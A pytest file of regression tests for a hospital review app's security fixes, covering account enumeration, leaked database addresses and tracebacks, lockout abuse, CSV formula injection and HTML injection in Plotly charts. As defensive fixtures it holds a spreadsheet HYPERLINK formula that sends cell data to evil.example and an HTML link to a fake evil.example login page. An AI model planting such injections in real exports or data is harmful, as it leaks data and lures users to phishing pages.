"""What a hospital's security review of the app found: a disabled account's right password confirmed, the database's
address on the sign-in page, a job's traceback to every reviewer, a reviewer locked out by anyone, and spreadsheet
formulas handed over by the tables' own CSV download."""

from __future__ import annotations

import pytest

from db.engine import session_scope
from tests.app.conftest import PASSWORD, app_test, disable, make_batch
from tests.app.test_sign_in_overview import sign_in

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")'


def _tries(name: str) -> list:
    """The wrong passwords the sign-in form has counted for `name`, by address."""
    from sqlalchemy import select

    from db.models import FailedSignIn

    with session_scope() as session:
        return list(session.scalars(select(FailedSignIn.address).where(FailedSignIn.name == name)))


def test_a_disabled_accounts_right_password_is_answered_as_a_wrong_one_and_counted(users):
    disable("rita")
    wrong = sign_in(app_test(), "rita", "not her password").error[0].value
    right = sign_in(app_test(), "rita", PASSWORD)
    # It said "account 'rita' is disabled; ask an admin": whoever guessed her password learnt that it was right.
    assert "user" not in right.session_state and right.error[0].value == wrong
    assert wrong == "unknown user, wrong password or disabled account for 'rita' (an admin can tell you which)"
    # The right password counts as a try too (it was taken back): a lockout that never came told the same.
    assert len(_tries("rita")) == 2


def test_the_sign_in_page_names_no_database_when_it_does_not_answer(users, capsys):
    from db.engine import database_url
    from tests.db.helpers import database_gone

    from streamlit.testing.v1 import AppTest

    from tests.app.conftest import ROOT, TIMEOUT

    app_test()  # the app opened its database once, as a running app has
    capsys.readouterr()
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=TIMEOUT)
    with database_gone(database_url()):
        at.run()
    assert not at.exception, [e.value for e in at.exception]
    # The page is open to anyone: it showed "the database sqlite:////…/gone.db failed: unable to open …" (on
    # PostgreSQL, the role, host, port and database).
    assert [e.value for e in at.error] == ["The database is not answering (the app's log says why, for whoever runs "
                                           "the app). Reload the page to try again."]
    logged = capsys.readouterr().err  # for whoever runs the app
    assert "ganaug app: the database sqlite:" in logged and "failed: unable to open database file" in logged


def _failed_scoring(digits, by: int) -> tuple[int, int]:
    from db.jobs import claim_job, fail_job, submit_job

    batch = make_batch(digits, 7, 4, scored=False)
    with session_scope(immediate=True) as session:
        job = submit_job(session, "evaluate", {"batch_id": batch}, f"score-{batch}", requested_by=by).id
        claim_job(session, job, 1)
        fail_job(session, job, "sample file missing: x.png\n\nTraceback (most recent call last):\n"
                               "  File \"/srv/ganaug/db/review.py\", line 12")
    return batch, job


@pytest.mark.parametrize("viewer, sees", [("rita", True), ("ada", True), ("bob", False)])
def test_a_failed_jobs_traceback_shows_to_whoever_launched_it_and_to_admins_only(users, digits, viewer, sees):
    from db.users import add_user, get_user

    with session_scope(immediate=True) as session:
        bob = add_user(session, "bob", PASSWORD, by=get_user(session, "ada"))
        users["bob"] = dict(id=bob.id, name=bob.name, role=bob.role)
    batch, job = _failed_scoring(digits, users["rita"]["id"])
    at = app_test(users[viewer], "review.py")
    at.selectbox(key="review_batch").set_value(batch).run()
    assert not at.exception
    assert [e.value for e in at.error] == [f"Scoring job {job} failed: sample file missing: x.png" if sees
                                           else f"Scoring job {job} failed — ask rita or an admin."]
    assert [e.label for e in at.expander] == (["Details (for a bug report)"] if sees else [])
    assert any("/srv/ganaug" in c.value for c in at.code) == sees
    if not sees:
        assert ("Why it failed, and its details for a bug report, show to whoever launched the job and to admins: "
                "they can name the server's files, its database and values from the data.") in [
            c.value for c in at.caption]


@pytest.mark.parametrize("viewer, whole", [("rita", True), ("ada", True), ("bob", False)])
def test_a_failed_jobs_line_shows_to_other_reviewers_only_as_failed_and_whom_to_ask(users, digits, home, viewer,
                                                                                    whole):
    # Its first line, shown to every reviewer, named where the server keeps its files: '/srv/ganaug/…'; with the
    # paths hidden it still named the SQL and the values of an unexpected database error (the source file names of
    # patients' images among them) and the database's host.
    from db.jobs import claim_job, fail_job, submit_job
    from db.users import add_user, get_user
    from ganaug_core.markdown import plain

    with session_scope(immediate=True) as session:
        bob = add_user(session, "bob", PASSWORD, by=get_user(session, "ada"))
        users["bob"] = dict(id=bob.id, name=bob.name, role=bob.role)
        job = submit_job(session, "train_generate", {"dataset": digits}, None, requested_by=users["rita"]["id"]).id
        claim_job(session, job, 1)
        line = (f"run 3's checkpoint {home}/runs/000003/checkpoints/checkpoint-0000600.pt is missing; FileNotFoundError: "
                "[Errno 2] No such file or directory: '/srv/ganaug/venv/lib/x.so'; IntegrityError: UNIQUE constraint "
                "failed [SQL: INSERT INTO samples …] [parameters: ('patient_0042_smith.png',)]")
        fail_job(session, job, f"{line}\n\nTraceback (most recent call last):\n  File \"/srv/ganaug/x.py\"")
    at = app_test(users[viewer], "generate.py")
    at.session_state["generate_job"] = job
    at.run()
    shown = [e.value for e in at.error]
    table = " ".join(map(str, at.dataframe[0].value["message"]))  # "Recent runs"
    if whole:  # the launcher and admins act on it: the line as it is
        assert f"The job failed: {plain(line)}" in shown
        assert "/srv/ganaug/venv/lib/x.so" in table and "patient_0042" in table
    else:
        assert shown == [f"Training job {job} failed — ask rita or an admin."]
        assert "failed — ask rita or an admin" in table
        assert not [word for word in ("/srv", str(home), "checkpoint", "SQL", "patient") if word in table]


def test_wrong_passwords_from_a_strangers_address_do_not_lock_the_reviewer_out_elsewhere(users, monkeypatch):
    import pages.auth
    from db.sign_ins import MAX_FAILED_SIGN_INS, failed_sign_ins

    def from_address(address):
        monkeypatch.setattr(pages.auth, "client_address", lambda: address)
        return app_test()

    with session_scope(immediate=True) as session:
        for _ in range(MAX_FAILED_SIGN_INS):  # what the form counts for a stranger's wrong guesses
            failed_sign_ins.start(session, "rita", "203.0.113.9")
    refused = sign_in(from_address("203.0.113.9"), "rita", PASSWORD)
    assert "user" not in refused.session_state and "too many wrong passwords" in refused.error[0].value
    # Rita at her own desk: she was refused for 15 minutes, by anyone who typed her name 5 times.
    assert sign_in(from_address("10.0.0.7"), "rita", PASSWORD).session_state["user"]["name"] == "rita"
    # Her sign-in forgets her own tries only: the stranger's do not start afresh (the cap over every address is
    # tests/db/test_sign_ins.py's).
    assert _tries("rita") == ["203.0.113.9"] * MAX_FAILED_SIGN_INS


def test_a_table_cell_a_spreadsheet_would_run_as_a_formula_is_shown_as_text(users, digits):
    from db.review import reject_batch
    from db.users import get_user

    shifted = make_batch(digits, 9, 2)
    formula = make_batch(digits, 9, 2)
    with session_scope(immediate=True) as session:
        rita = get_user(session, "rita")
        reject_batch(session, shifted, rita, "-3 px shift on every sample")
        reject_batch(session, formula, rita, FORMULA)
    at = app_test(users["rita"])  # Overview: the latest decisions, with their reasons
    reasons = list(at.dataframe[-1].value["reason"])
    # Streamlit's "Download as CSV" (and its copy) hands a cell over as it is: Excel ran this one as a live link.
    assert "'" + FORMULA in reasons and "'-3 px shift on every sample" in reasons
    assert FORMULA not in reasons


def test_text_cells_leaves_numbers_and_ordinary_text_alone():
    import pandas as pd

    from pages.tables import text_cells

    table = pd.DataFrame({"name": ["naevus", "@rita", "-0.5", "+1e-4", ""], "n": [1, 2, 3, 4, 5]})
    assert list(text_cells(table)["name"]) == ["naevus", "'@rita", "-0.5", "+1e-4", ""]
    assert text_cells(pd.DataFrame({"name": [None]}))["name"].isna().all()
    assert list(table["name"])[1] == "@rita"  # the caller's table is not changed
    assert text_cells([{"name": "=1+1", "n": -1}]) == [{"name": "'=1+1", "n": -1}]


LINK = '<a href="https://evil.example/login">7</a>'


def _charts(at) -> str:
    return " ".join(chart.proto.spec for chart in at.get("plotly_chart"))


def test_a_class_name_holding_html_is_text_on_the_charts_not_a_link(users, digits):
    """Plotly reads <a href>, <span style> and <b> in an axis's labels, a legend and a title: a class folder so named
    put a live link (http and https pass its filter) on every reviewer's Overview."""
    from sqlalchemy import update

    from db.models import Dataset

    with session_scope() as session:
        names = [str(i) for i in range(10)]
        names[7] = LINK
        session.execute(update(Dataset).where(Dataset.name == digits).values(class_names=names))
    at = app_test(users["rita"])
    spec = _charts(at)
    assert "evil.example" in spec and 'href=\\"https' in spec  # the name is there ...
    assert "<a href" not in spec and "&lt;a href=" in spec  # ... as text
    from ganaug_core.markdown import chart_text

    assert chart_text("a & <b>") == "a &amp; &lt;b&gt;"


def _follow_generate_job(job_id: int) -> None:
    """The Generate page's job panel alone, as its redraw every 2 s runs it (AppTest cannot rerun a fragment alone)."""
    from pages.generate_job import job_panel

    job_panel(job_id, {}, {})


def test_a_panel_redrawing_itself_shows_an_account_disabled_since_nothing_more(users, digits):
    # The panels that redraw every 2 s (a training's grids of samples, an ingest, a benchmark, a scoring) run without
    # the page whose `require_user` signs a disabled account out: a browser left on the Generate page went on
    # receiving each new grid of samples and the job's lines for as long as the training ran.
    from streamlit.testing.v1 import AppTest

    from db.jobs import submit_job
    from tests.app.conftest import TIMEOUT

    with session_scope(immediate=True) as session:
        job = submit_job(session, "train_generate", {"dataset": digits}, None, requested_by=users["rita"]["id"]).id
    at = AppTest.from_function(_follow_generate_job, args=(job,), default_timeout=TIMEOUT)
    at.session_state["user"] = users["rita"]
    at.run()
    assert [h.value for h in at.header] == [f"Job {job}: queued"]
    disable("rita")
    at.run()  # the panel's next redraw
    assert not at.exception, [e.value for e in at.exception]
    assert not at.header and "user" not in at.session_state
    assert at.session_state["sign_in_notice"] == "account 'rita' is disabled; ask an admin. You have been signed out."
